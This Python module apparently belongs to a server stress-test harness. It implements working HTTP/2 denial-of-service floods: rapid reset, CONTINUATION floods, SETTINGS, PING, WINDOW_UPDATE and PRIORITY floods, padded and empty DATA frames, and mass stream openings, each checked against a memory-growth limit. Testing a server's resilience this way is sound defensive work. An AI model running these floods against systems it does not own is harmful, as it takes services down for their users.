"""Floods of HTTP/2 frames that carry no request but must be answered, or looked at."""

import contextlib
import struct

import http2
import wire
from registry import attack

GROWTH_MB = 96
PADDED = 8


def flood(target, data, streams=0):
    """Floods one connection after the other, with `streams` of Health.Watch open on each."""
    sent = closed = 0
    while target.running():
        try:
            c = http2.Connection(target.port, target.source, window=0)
        except OSError:
            continue
        for _ in range(streams):
            c.call(wire.HEALTH_WATCH, http2.message(b""))
        c.pump(0.2)
        sent += c.flood(data, target.until)
        closed += c.closed
        c.close()
    target.note(f"{sent * len(data) / 1e6:.0f} MB of frames, {closed} connections closed")


@attack("frames-settings", growth_mb=GROWTH_MB, processes=2)
def settings(target):
    """SETTINGS with another initial window each time, on a connection with 1,000 streams: every frame of 15 bytes makes the
    server walk over all of them."""
    pair = http2.settings(window=65535) + http2.settings(window=66535)
    flood(target, pair * 250, streams=1000)


@attack("frames-ping", growth_mb=GROWTH_MB, processes=2)
def ping(target):
    """PING, each of which is answered, while the answers are read."""
    flood(target, http2.frame(http2.PING, 0, 0, bytes(8)) * 500)


@attack("frames-window", growth_mb=GROWTH_MB, processes=2)
def window(target):
    """WINDOW_UPDATE by one byte, on the connection and on its streams."""
    flood(target, (http2.window_update(0, 1) + http2.window_update(1, 1)) * 250, streams=50)


@attack("frames-priority", growth_mb=GROWTH_MB, processes=2)
def priority(target):
    """PRIORITY of streams that do not exist."""
    flood(
        target,
        b"".join(
            http2.frame(http2.PRIORITY, 0, 2 * k + 1, struct.pack(">IB", 0, 1))
            for k in range(1000, 1500)
        ),
    )


@attack("frames-empty-data", growth_mb=GROWTH_MB, processes=2)
def empty_data(target):
    """Empty DATA on an open call: no window limits it."""
    while target.running():
        c = http2.Connection(target.port, target.source)
        c.call(wire.INFER)
        c.pump(0.2)
        c.flood(http2.frame(http2.DATA, 0, 1) * 500, target.until)
        c.close()


@attack("frames-unknown", growth_mb=GROWTH_MB, processes=2)
def unknown(target):
    """Frames of a type that nobody knows, which must be ignored."""
    flood(target, http2.frame(0x7B, 0, 0, bytes(8)) * 500)


def rounds(target, batch):
    """Sends `batch(connection)` over and over, and begins a new connection where the server ends one."""
    n = 0
    while target.running():
        try:
            c = http2.Connection(target.port, target.source)
        except OSError:
            continue
        while target.running() and not c.closed:
            c.send(batch(c))
            c.pump()
            n += 1
        c.close()
    target.note(f"{n} batches")


@attack("frames-rapid-reset", growth_mb=GROWTH_MB, processes=2)
def rapid_reset(target):
    """Opens a call and resets it at once, by the thousand: the server begins work that nobody waits for."""
    block = http2.request_headers(wire.BACKGROUND)
    body = http2.message(wire.text(1, "mira") + wire.text(2, b"\0"))

    def batch(c):
        first, c.next = c.next, c.next + 200
        return b"".join(
            http2.frame(http2.HEADERS, http2.END_HEADERS, s, block)
            + http2.frame(http2.DATA, http2.END_STREAM, s, body)
            + http2.frame(http2.RST_STREAM, 0, s, struct.pack(">I", 8))
            for s in range(first, first + 200, 2)
        )

    rounds(target, batch)


@attack("frames-continuation", growth_mb=GROWTH_MB, processes=2)
def continuation(target):
    """HEADERS without an end, and CONTINUATION after CONTINUATION: where they are gathered, a header list without a bound."""
    field = http2.literal("x-a", "y" * 8000)
    more = b"".join(http2.frame(http2.CONTINUATION, 0, 1, field) for _ in range(30))
    head = http2.frame(http2.HEADERS, 0, 1, http2.request_headers(wire.INFER))

    def batch(c):
        first, c.next = c.next == 1, 3
        return (head if first else b"") + more

    rounds(target, batch)


@attack("frames-continuation-empty", growth_mb=GROWTH_MB, processes=2)
def continuation_empty(target):
    """The same with empty CONTINUATION frames, which no limit of bytes stops."""
    head = http2.frame(http2.HEADERS, 0, 1, http2.request_headers(wire.INFER))
    more = http2.frame(http2.CONTINUATION, 0, 1) * 500

    def batch(c):
        first, c.next = c.next == 1, 3
        return (head if first else b"") + more

    rounds(target, batch)


@attack("frames-padding", growth_mb=GROWTH_MB, processes=2)
def padding(target):
    """DATA with padding and nothing else on an open call, within the windows: frames of 73 bytes, or of 265, that look as if they
    brought something."""
    small = http2.frame(http2.DATA, PADDED, 1, bytes([63]) + bytes(63)) * 200
    long = http2.frame(http2.DATA, PADDED, 1, bytes([255]) + bytes(255)) * 50
    while target.running():
        with contextlib.suppress(OSError):
            c = http2.Connection(target.port, target.source)
            c.call(wire.INFER, end=False)
            c.pump(0.2)
            for k in range(1 << 30):
                if not target.running() or c.closed or 1 in c.ended:
                    break
                if min(c.window, c.windows.get(1, 0)) < 64 * 256:
                    c.pump(0.01)
                    continue
                c.window -= 64 * 200
                c.windows[1] -= 64 * 200
                c.send(long if k % 2 else small)
                c.pump()
            c.close()


@attack("frames-refused", growth_mb=GROWTH_MB, processes=2)
def refused(target):
    """Opens calls beyond those that a connection may have, each of which must be refused, and calls that are no POST."""
    block = http2.request_headers(wire.INFER)

    def batch(c):
        first, c.next = c.next, c.next + 400
        return b"".join(
            http2.frame(http2.HEADERS, http2.END_HEADERS, s, block)
            for s in range(first, first + 400, 2)
        )

    rounds(target, batch)
